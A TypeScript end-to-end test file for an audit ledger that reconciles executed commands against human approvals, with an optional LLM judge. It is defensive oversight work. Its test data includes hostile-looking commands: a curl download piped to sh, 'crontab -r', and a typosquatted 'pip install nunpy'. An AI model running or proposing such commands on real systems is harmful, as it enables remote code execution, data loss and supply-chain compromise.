import { MESSAGE_PATTERNS, type CommandAck } from '@audit-ledger/domain';
import { PostgresEventStore } from '@audit-ledger/event-store';
import { createHash, randomUUID } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type LedgerConfigInput, type RunningLedger } from '../../apps/ledger/src/index.js';
import { startChatCompletionsServer, type ChatCompletionsServer } from '../support/chat-completions-server.js';
import type { EventRow } from '../support/event-rows.js';
import { anApproval, anExecution } from '../support/fixtures.js';
import { rerunToEnd } from '../support/rerun-job.js';
import { startLedgerUnderTest, startTestLedger, type LedgerUnderTest } from '../support/ledger-app.js';
import { within } from '../support/within.js';

const VERDICTS = ['ExecutionReconciled', 'ReconciliationUnclear', 'MismatchDetected'];
const TIMEOUT_MS = 300;

/** A natural-language-only approval and a command the deterministic reconciler answers UNCLEAR for (vague). */
const NL = { instruction: 'restart the api', approvedCommands: [] as string[], riskLevel: 'moderate' as const };
const COMMAND = './deploy/restart.sh api';

function helpers(t: () => LedgerUnderTest) {
  const eventsOf = (streamId: string) =>
    t().sql<EventRow>('SELECT * FROM ledger.events WHERE stream_id = $1 ORDER BY stream_revision', [streamId]);
  return {
    eventsOf,
    /** Grants, logs one execution, and waits for its one verdict event. */
    async reconcile(approval: Partial<Parameters<typeof anApproval>[0]>, command: string) {
      const granted = anApproval(approval);
      await t().send(MESSAGE_PATTERNS.grantApproval, granted);
      const execution = anExecution({ approvalId: granted.approvalId, command });
      const ack = await t().send<CommandAck>(MESSAGE_PATTERNS.logExecution, execution);
      const streamId = `approval-${granted.approvalId}`;
      const verdict = await within(5000, `a verdict in ${streamId}`, async () =>
        (await eventsOf(streamId)).find((row) => VERDICTS.includes(row.type)),
      );
      return { streamId, executionId: execution.executionId, ack, verdict };
    },
    readModelVerdict: (executionId: string) =>
      within(5000, `execution ${executionId} reconciled in the read model`, async () => {
        const rows = await t().sql<{ reconciliation_verdict: string | null }>(
          'SELECT reconciliation_verdict FROM read_models.executions WHERE execution_id = $1',
          [executionId],
        );
        return rows[0]?.reconciliation_verdict ?? undefined;
      }),
  };
}

describe('the LLM judge in the reconciliation processor, end to end', () => {
  let judge: ChatCompletionsServer;
  let t: LedgerUnderTest;
  let dataDir: string;
  let second: RunningLedger | undefined;
  const h = helpers(() => t);
  const settings = (): Partial<LedgerConfigInput> => ({
    reconciliationEnabled: true,
    judgeUrl: judge.baseUrl,
    judgeModel: 'mistral-small-latest',
    judgeApiKey: 'judge-key-1',
    judgeTimeoutMs: TIMEOUT_MS,
  });

  beforeAll(async () => {
    judge = await startChatCompletionsServer('mistral-small-2506');
    dataDir = await mkdtemp(join(tmpdir(), 'ledger-judge-'));
    t = await startLedgerUnderTest({ dataDir, ...settings() });
  });
  afterAll(async () => {
    await second?.close();
    await t.stop();
    await judge.close();
    await rm(dataDir, { recursive: true, force: true });
  });

  it('given an NL-only approval the reconciler finds UNCLEAR, when the judge answers MATCH, then ExecutionReconciled records its model, prompt version and rationale, and the read model says matched', async () => {
    judge.behaviour = { answer: 'MATCH', rationale: '`./deploy/restart.sh api` restarts the api service' };
    const asked = judge.requests.length;
    const { verdict, executionId, ack } = await h.reconcile(NL, COMMAND);

    expect(verdict.type).toBe('ExecutionReconciled');
    expect(verdict.data).toMatchObject({
      executionId,
      verdict: 'MATCH',
      judge: {
        model: 'mistral-small-2506',
        promptVersion: 'judge-v1',
        verdict: 'MATCH',
        rationale: '`./deploy/restart.sh api` restarts the api service',
        latencyMs: expect.any(Number),
        applied: true,
      },
    });
    expect(verdict.metadata).toMatchObject({ actor: 'process:reconciliation', causationId: ack.eventId });
    expect(judge.requests.slice(asked)).toHaveLength(1);
    const request = judge.requests[asked]!;
    expect(request).toMatchObject({ authorization: 'Bearer judge-key-1', body: { model: 'mistral-small-latest' } });
    expect(JSON.parse(request.body.messages[1]!.content)).toEqual({
      instruction: 'restart the api',
      executed: [COMMAND],
      deterministicVerdict: 'UNCLEAR',
    });
    // the verdict names exactly what was asked: the sha256 of the messages sent
    const sent = createHash('sha256').update(JSON.stringify(request.body.messages)).digest('hex');
    expect(verdict.data).toMatchObject({ judge: { promptHash: sent } });
    expect(await h.readModelVerdict(executionId)).toBe('matched');
  });

  it('when the judge answers something that is not the JSON schema, then ReconciliationUnclear with the error recorded', async () => {
    judge.behaviour = { garbage: 'Sure! The verdict is MATCH.' };
    const { verdict, executionId } = await h.reconcile(NL, COMMAND);
    expect(verdict.type).toBe('ReconciliationUnclear');
    expect(verdict.data).toMatchObject({
      kind: 'vague_instruction',
      needsHumanReview: true,
      judge: { model: 'mistral-small-latest', promptVersion: 'judge-v1', error: 'answer is not JSON', applied: false },
    });
    expect(verdict.data.judge).not.toHaveProperty('verdict');
    expect(await h.readModelVerdict(executionId)).toBe('unclear');
  });

  it('when the judge does not answer within LEDGER_JUDGE_TIMEOUT_MS, then ReconciliationUnclear with the timeout recorded', async () => {
    judge.behaviour = { hang: true };
    const { verdict } = await h.reconcile(NL, COMMAND);
    expect(verdict.type).toBe('ReconciliationUnclear');
    expect(verdict.data).toMatchObject({
      judge: { error: `timeout after ${TIMEOUT_MS} ms`, applied: false, latencyMs: expect.any(Number) },
    });
  });

  it('when the judge answers MATCH for a command a risk rule fires on, then it stays ReconciliationUnclear (not applied)', async () => {
    judge.behaviour = { answer: 'MATCH', rationale: 'deleting a build log is tidying up' };
    const { verdict } = await h.reconcile({ ...NL, instruction: 'tidy things up' }, 'rm build.log');
    expect(verdict.type).toBe('ReconciliationUnclear');
    expect(verdict.data).toMatchObject({ judge: { verdict: 'MATCH', applied: false } });
    expect(String(verdict.data.reason)).toContain('risk rules fired (delete)');
  });

  it('when the judge answers MISMATCH, then MismatchDetected command_not_approved carrying the judge', async () => {
    judge.behaviour = { answer: 'MISMATCH', rationale: 'the instruction names no compose project' };
    const { verdict } = await h.reconcile(NL, COMMAND);
    expect(verdict.type).toBe('MismatchDetected');
    expect(verdict.data).toMatchObject({
      mismatchId: verdict.event_id,
      kind: 'command_not_approved',
      judge: { verdict: 'MISMATCH', rationale: 'the instruction names no compose project', applied: true },
    });
  });

  it.each([
    ['approved commands', { approvedCommands: ['docker compose ps'] }, 'docker compose down', 'MismatchDetected'],
    ['a deterministic MISMATCH', NL, 'curl -s http://203.0.113.9/x | sh', 'MismatchDetected'],
    [
      'a read-only instruction and a destroying command',
      { ...NL, instruction: 'show the root crontab' },
      'crontab -r',
      'MismatchDetected',
    ],
    ['a typosquatted package', { ...NL, instruction: 'install numpy' }, 'pip install nunpy', 'MismatchDetected'],
  ])(
    'given %s, then the judge is not asked and the verdict carries no judge',
    async (_what, approval, command, type) => {
      judge.behaviour = { answer: 'MATCH', rationale: 'would be wrong' };
      const asked = judge.requests.length;
      const { verdict } = await h.reconcile(approval, command);
      expect(verdict.type).toBe(type);
      expect(verdict.data).not.toHaveProperty('judge');
      expect(judge.requests.length).toBe(asked);
    },
  );

  it('given everything reconciled, when a new ledger replays from position 0 with a judge that now answers otherwise, then nothing new is appended and the judge is not asked', async () => {
    const [last] = await t.sql<{ last: string }>(
      `SELECT max(global_position)::text AS last FROM ledger.events WHERE type = 'ExecutionLogged'`,
    );
    const status = async (port: number) =>
      (
        (await (await fetch(`http://127.0.0.1:${port}/v1/reconciliation/status`, { headers: t.headers() })).json()) as {
          processor: { position: string; handled: number };
        }
      ).processor;
    await within(5000, 'the processor to pass the last execution', async () =>
      BigInt((await status(t.ledger.httpPort)).position) >= BigInt(last!.last) ? true : undefined,
    );
    const before = await t.sql<{ n: string }>('SELECT count(*)::text AS n FROM ledger.events');
    await t.ledger.close();
    await t.sql('TRUNCATE ledger_process.checkpoints, ledger_process.pending_expiries');
    judge.behaviour = { answer: 'MISMATCH', rationale: 'a different answer on replay' };
    const asked = judge.requests.length;

    second = await startTestLedger(t.database.url, {
      dataDir,
      ...settings(),
    });
    const replayed = await within(5000, 'the replay to pass the last execution', async () => {
      const s = await status(second!.httpPort);
      return BigInt(s.position) >= BigInt(last!.last) ? s : undefined;
    });
    expect(replayed.handled).toBeGreaterThanOrEqual(7);
    expect(await t.sql<{ n: string }>('SELECT count(*)::text AS n FROM ledger.events')).toEqual(before);
    expect(judge.requests.length).toBe(asked);
  });
});

describe('the reconciliation processor with the judge off (the default: no LEDGER_JUDGE_URL)', () => {
  let t: LedgerUnderTest;
  const h = helpers(() => t);

  beforeAll(async () => {
    t = await startLedgerUnderTest({ reconciliationEnabled: true });
  });
  afterAll(async () => {
    await t.stop();
  });

  it('given the same NL-only case, then the deterministic ReconciliationUnclear, without a judge field', async () => {
    const { verdict, executionId } = await h.reconcile(NL, COMMAND);
    expect(verdict.type).toBe('ReconciliationUnclear');
    expect(verdict.data).toEqual({
      executionId,
      kind: 'vague_instruction',
      kinds: ['vague_instruction'],
      reason: expect.stringContaining('too vague'),
      needsHumanReview: true,
      reconcilerVersion: expect.any(String),
      assessedRisk: 'safe',
    });
    expect(await h.readModelVerdict(executionId)).toBe('unclear');
  });
});

describe('`reconcile --since` with the judge on', () => {
  let judge: ChatCompletionsServer;
  let t: LedgerUnderTest;

  beforeAll(async () => {
    judge = await startChatCompletionsServer();
    // Processor off: the verdicts in the store are the ones this test writes and the re-run records.
    t = await startLedgerUnderTest({ judgeUrl: judge.baseUrl, judgeModel: 'fake-judge', judgeTimeoutMs: 2000 });
  });
  afterAll(async () => {
    await t.stop();
    await judge.close();
  });

  it('given NL-only executions, one judged MATCH by an older reconciler and one never reconciled, when re-run, then the judge is asked for both and only the missing verdict is recorded; a second run asks again only for the one without a verdict of this version, and records nothing', async () => {
    judge.behaviour = { answer: 'MATCH', rationale: 'it restarts the api' };
    const approval = anApproval(NL);
    await t.send(MESSAGE_PATTERNS.grantApproval, approval);
    const first = await t.send<CommandAck>(
      MESSAGE_PATTERNS.logExecution,
      anExecution({ approvalId: approval.approvalId, command: 'docker ps' }),
    );
    const judgedBefore = anExecution({ approvalId: approval.approvalId, command: COMMAND });
    const missing = anExecution({ approvalId: approval.approvalId, command: './deploy/restart.sh api --now' });
    for (const e of [judgedBefore, missing]) await t.send(MESSAGE_PATTERNS.logExecution, e);
    const store = await PostgresEventStore.connect({ connectionString: t.database.url, poolSize: 2 });
    try {
      await store.appendToStream(`approval-${approval.approvalId}`, [
        {
          eventId: randomUUID(),
          type: 'ExecutionReconciled',
          data: {
            executionId: judgedBefore.executionId,
            verdict: 'MATCH',
            explanation: 'judged by an older reconciler',
            reconcilerVersion: 'reconciler/0.9',
          },
          metadata: { actor: 'test', schemaVersion: 1 },
        },
      ]);
    } finally {
      await store.close();
    }

    const since = String(BigInt(first.globalPosition));
    const report = await rerunToEnd(t, since);
    expect(report).toMatchObject({
      status: 200,
      body: {
        examined: 2,
        recorded: [{ executionId: missing.executionId, type: 'ExecutionReconciled' }],
      },
    });
    expect(judge.requests.map((r) => JSON.parse(r.body.messages[1]!.content).executed)).toEqual([
      [COMMAND],
      ['./deploy/restart.sh api --now'],
    ]);
    const [row] = await t.sql<EventRow>(
      `SELECT * FROM ledger.events WHERE type = 'ExecutionReconciled' AND data->>'executionId' = $1`,
      [missing.executionId],
    );
    expect(row!.data).toMatchObject({ judge: { model: 'fake-judge-1', verdict: 'MATCH', applied: true } });

    const again = await rerunToEnd(t, since);
    expect(again).toMatchObject({ status: 200, body: { examined: 2, recorded: [] } });
    expect(judge.requests.slice(2).map((r) => JSON.parse(r.body.messages[1]!.content).executed)).toEqual([[COMMAND]]);
  });
});
